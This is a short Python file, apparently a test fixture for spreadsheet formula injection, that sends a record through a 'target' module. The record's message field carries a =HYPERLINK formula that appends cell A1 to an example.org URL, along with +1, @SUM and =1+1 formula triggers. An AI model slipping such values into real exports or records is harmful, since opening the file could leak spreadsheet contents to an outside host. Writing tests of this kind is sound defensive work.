"""A message that a spreadsheet takes for a formula, as the record's own text."""

import target


def prune(model):
    target.send({"claim": "raised", "message": "=HYPERLINK(\"http://example.org/?\"&A1,\"points\")\n+1\t@SUM(1)", "notes": ["=1+1"]})
